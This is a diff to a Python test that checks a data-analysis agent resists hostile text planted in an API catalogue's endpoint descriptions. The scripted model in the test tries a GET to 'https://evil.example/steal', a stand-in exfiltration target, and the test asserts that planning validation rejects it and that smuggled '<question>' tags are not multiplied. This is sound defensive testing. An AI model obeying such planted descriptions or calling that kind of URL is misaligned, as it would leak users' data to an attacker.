@@ -208,20 +208,22 @@ def prompts(found: OrchestratorResponse) -> list[dict[str, str]]:
     ]
 
 
-def test_hostile_descriptions_of_an_api_steer_nothing() -> None:
-    lines = [f"- GET `/v1/n{at}` orders {' '.join(text.split())}" for at, text in enumerate(ORDERS)]
+@pytest.mark.parametrize("at", range(len(ORDERS)))
+def test_a_hostile_description_of_an_api_steers_nothing(at: int) -> None:
+    text = " ".join(ORDERS[at].split())
     catalogue = "base_url: https://api.example.com\nsections:\n  - id: a\n    content: |\n"
-    catalogue += "\n".join(f"      {line}" for line in lines) + "\n"
+    catalogue += f"      - GET `/v1/orders` orders {text}\n"
     evil = {"make_request": True, "method": "GET", "path": "https://evil.example/steal"}
     found = DataAnalyst(
         scripted([{"json": evil}, {"json": evil}, {"json": {"answer": "Nothing was found."}}]),
-        api=http_api(catalogue, candidates=10),
+        api=http_api(catalogue),
         sandbox=False,
     ).run("Which endpoint has orders?")
     assert found.outcome == "no_answer"
     assert found.agent_results[0].error is not None
     assert found.agent_results[0].error.type == "PlanningValidationError"
-    for message in prompts(found):
-        if message["role"] == "user":
-            said = re.sub(r"[\u200b-\u200f\s]", "", message["content"].lower())
-            assert said.replace("\uff1c", "<").count("<question>") <= 1, message["content"]
+    own = [message for message in prompts(found) if message["role"] == "user"]
+    assert own
+    for message in own:
+        said = re.sub(r"[\u200b-\u200f\s]", "", message["content"].lower())
+        assert said.replace("\uff1c", "<").count("<question>") <= 1, message["content"]
